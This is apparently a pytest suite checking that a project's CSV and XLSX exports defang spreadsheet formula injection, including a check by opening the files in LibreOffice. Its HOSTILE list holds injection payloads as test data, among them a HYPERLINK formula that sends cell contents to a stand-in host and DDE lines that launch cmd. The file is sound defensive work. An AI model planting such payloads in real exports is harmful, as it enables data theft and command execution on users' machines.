"""Tables that leave: spreadsheets show every text as it is and compute none of it."""

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from deadlines.sheets import Column, Sheet, write_csv, write_xlsx
from deadlines.sheets.harmless import for_csv

HOSTILE = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    "\u00a0=1+1",
    "=cmd|' /C calc'!A0",
    "Smith; =1+1",
    "Smith,=1+1",
    'a";=1+1;"b',
    "Smith\t=1+1",
    "Smith\n=1+1",
    "Smith\u2028=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}",
    "#REF!",
    "TRUE",
    "1E5",
    "0012",
]  # fmt: skip
BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
"""What OWASP lists (CSV injection)."""
LETTER = Column("Text", 40)
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def sheet() -> Sheet:
    rows = [(text, text, date(2026, 10, 23), 7) for text in HOSTILE]
    return Sheet("Docket", [LETTER, Column("Again", 40), Column("On", 12, "date"), Column("Days", 8, "number")], rows)


def shown(text: str) -> str:
    """A text without blanks, controls and the apostrophes that guard it."""
    return re.sub(r"[\s'\u00a0]", "", text)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_a_csv_begins_with_what_is_computed(separator: str) -> None:
    """By whichever separator a program splits the lines."""
    text = write_csv(sheet()).decode("utf-8-sig")
    for cells in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in cells:
            assert not cell.lstrip(" \"'\u00a0").startswith(tuple(BEGINNINGS)) or cell.lstrip(' "').startswith("'"), (
                cell
            )


def test_a_csv_shows_every_text_and_keeps_dates_and_numbers() -> None:
    [_, *rows] = csv.reader(io.StringIO(write_csv(sheet()).decode("utf-8-sig"), newline=""))
    assert [shown(row[0]) for row in rows] == [shown(text) for text in HOSTILE]
    assert {(row[2], row[3]) for row in rows} == {("2026-10-23", "7")}


@pytest.mark.parametrize("text", ["Garcia", "2026-0143", "O'Neil", "Núñez – Pérez", "a - b", "A;B", "x, y", "1 = 1"])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert for_csv(text) == text


def test_a_workbook_holds_texts_days_and_numbers() -> None:
    data = write_xlsx([sheet()])
    page = openpyxl.load_workbook(io.BytesIO(data))["Docket"]
    rows = list(page.iter_rows(min_row=2))
    assert {row[0].data_type for row in rows} == {"s"}
    assert {(row[2].value.date(), row[2].is_date) for row in rows} == {(date(2026, 10, 23), True)}  # type: ignore[union-attr]
    assert {row[3].value for row in rows} == {7}
    assert [shown(str(row[0].value)) for row in rows] == [shown(text) for text in HOSTILE]
    assert all(row[0].quotePrefix for row in rows if str(row[0].value).lstrip()[0] in BEGINNINGS)
    assert (page.freeze_panes, page.auto_filter.ref) == ("A2", f"A1:D{len(HOSTILE) + 1}")


def test_a_workbook_has_no_formula_and_no_link_in_its_bytes() -> None:
    """Looked at without the library that wrote it."""
    with zipfile.ZipFile(io.BytesIO(write_xlsx([sheet()]))) as archive:
        pages = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
        names = archive.namelist()
    assert pages
    assert not any(re.search(r"<f[ >/]", page) for page in pages)
    assert not any("externalLink" in name or "connections" in name for name in names)


def test_texts_that_no_xml_can_hold_are_written_all_the_same() -> None:
    odd = Sheet("Docket", [LETTER], [["a\0b\x0b\x1f\ufffe"], ["x" * 40_000]])
    page = openpyxl.load_workbook(io.BytesIO(write_xlsx([odd])))["Docket"]
    assert str(page["A2"].value).startswith("a b")
    assert write_csv(Sheet("Docket", [LETTER], [["a\ud800b"]]))


@pytest.mark.skipif(
    OFFICE is None and not os.environ.get("DEADLINES_REQUIRE_CLIENTS"),
    reason="needs LibreOffice: apt-get install libreoffice-calc-nogui",
)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_libreoffice_computes_nothing(kind: str, tmp_path: Path) -> None:
    """Opened by a real spreadsheet program and saved as its own XML, which tells formulas from texts."""
    path = tmp_path / f"docket.{kind}"
    path.write_bytes(write_csv(sheet()) if kind == "csv" else write_xlsx([sheet()]))
    home = f"-env:UserInstallation={(tmp_path / 'home').as_uri()}"
    # 44: comma; 34: quotation mark; 76: UTF-8; the last true: also formulas are evaluated, the least careful setting.
    given = ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"] if kind == "csv" else []
    command = [str(OFFICE), home, "--headless", *given, "--convert-to", "fods", "--outdir", str(tmp_path), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    flat = (tmp_path / "docket.fods").read_text()
    assert "table:formula" not in flat
    assert "HYPERLINK" in flat
    assert "office:date-value=\"2026-10-23" in flat  # fmt: skip
